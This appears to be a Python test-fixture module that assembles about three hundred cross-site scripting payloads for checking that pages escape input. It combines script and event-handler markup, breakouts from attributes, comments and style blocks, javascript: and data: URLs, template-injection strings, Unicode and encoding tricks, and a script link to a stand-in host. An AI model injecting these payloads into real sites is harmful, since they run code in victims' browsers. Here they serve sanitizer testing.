"""Three hundred texts that would run something where a page forgot to escape.

Each calls ``pwn()``, which the browser of the tests reports. They are written for these tests, of
what runs and of how it breaks out of the place where it stands.
"""

from __future__ import annotations

from typing import Final

# What runs by itself once it is markup.
_RUNS: Final = (
    "<script>pwn()</script>",
    "<SCRIPT>pwn()</SCRIPT>",
    "<script >pwn()</script >",
    "<script/x>pwn()</script>",
    "<script>/*<b>*/pwn()</script>",
    "<scr\u0131pt>pwn()</script>",
    "<script src='data:text/javascript,pwn()'></script>",
    "<script type=module>pwn()</script>",
    "<img src=x onerror=pwn()>",
    "<img src=x onerror='pwn()'/>",
    "<IMG SRC=x OnErRoR=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<img src=x onerror=&#112;wn()>",
    "<img src=x onerror=\\u0070wn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><set onbegin=pwn() attributename=x>",
    "<svg><title><img src=x onerror=pwn()></title></svg>",
    "<svg><desc><img src=x onerror=pwn()></desc></svg>",
    "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
    "<math><mtext><script>pwn()</script></mtext></math>",
    "<math><mi/><style><img src=x onerror=pwn()></style></math>",
    "<body onload=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<iframe onload=pwn()></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<video src=x onerror=pwn()></video>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<details open ontoggle=pwn()><summary>x</summary></details>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()></select>",
    "<textarea autofocus onfocus=pwn()></textarea>",
    "<button autofocus onfocus=pwn()>x</button>",
    "<a href=x autofocus tabindex=1 onfocus=pwn()>x</a>",
    "<marquee onstart=pwn()>x</marquee>",
    "<style>@keyframes x{}</style><b style='animation:x 1ms' onanimationstart=pwn()>x</b>",
    "<link rel=stylesheet href=x onerror=pwn()>",
    "<link rel=preload as=script href=x onerror=pwn()>",
    "<base href='javascript:pwn()//'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form><button formaction=javascript:pwn() autofocus onfocus=pwn()>x</button></form>",
    "<template shadowrootmode=open><img src=x onerror=pwn()></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<b hx-get=/ hx-trigger=load hx-on:htmx:before:request=pwn()>x</b>",
    "<b hx-on::load='pwn()' hx-on:click=pwn()>x</b>",
)
# How it gets out of an attribute, a text element, a comment, a script, a style or a quoted value.
_BREAKS: Final = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></style></script></template>{}",
    "-->]]>{}<!--",
)
# What runs in the place itself: links, templates, styles, JSON, handlers, tricks of the alphabet.
_PLACES: Final = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "\x01javascript:pwn()",
    " javascript:pwn()",
    "javascript&colon;pwn()",
    "&#106;avascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "vbscript:pwn()",
    'https://x.example/"onmouseover=pwn() autofocus onfocus=pwn() x="',
    "https://x.example/'onfocus=pwn() autofocus x='",
    "https://x.example/><img src=x onerror=pwn()>",
    "http://x.example/#javascript:pwn()",
    "//x.example/pwn.js",
    "{{ pwn() }}",
    "{{ cycler.__init__.__globals__ }}<img src=x onerror=pwn()>",
    "{% raw %}<script>pwn()</script>{% endraw %}",
    "${pwn()}",
    "#{pwn()}",
    "<%= pwn() %>",
    '" onfocus=pwn() autofocus x="',
    "' onfocus=pwn() autofocus x='",
    "` onfocus=pwn() autofocus x=`",
    '\\"><script>pwn()</script>',
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;",
    "＜script＞pwn()＜/script＞",
    "‹script›pwn()‹/script›",
    "\u202e<script>pwn()</script>",
    "\u200b<script>pwn()</script>",
    "\ufeff<script>pwn()</script>",
    "<\u0000script>pwn()</script>".replace("\u0000", "\u2400"),
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    '{"a":"</script><script>pwn()</script>"}',
    '"}];pwn();[{"',
    "';pwn();'",
    "*/pwn()/*",
    "</script><svg onload=pwn()>",
    "x:expression(pwn())",
    "url(javascript:pwn())",
    "}</style><img src=x onerror=pwn()>{",
    "@import 'javascript:pwn()';",
    "<!--><img src=x onerror=pwn()>",
    "<![CDATA[<img src=x onerror=pwn()>]]>",
    "<?xml version='1.0'?><x onload=pwn()/>",
    "<!DOCTYPE x [<!ENTITY y '<script>pwn()</script>'>]>&y;",
)

PAYLOADS: Final[tuple[str, ...]] = tuple(
    dict.fromkeys(
        [broken.replace("{}", run) for run in _RUNS for broken in _BREAKS] + list(_PLACES)
    )
)
LINKS: Final[tuple[str, ...]] = _PLACES[:16]
"""Where an address stands."""
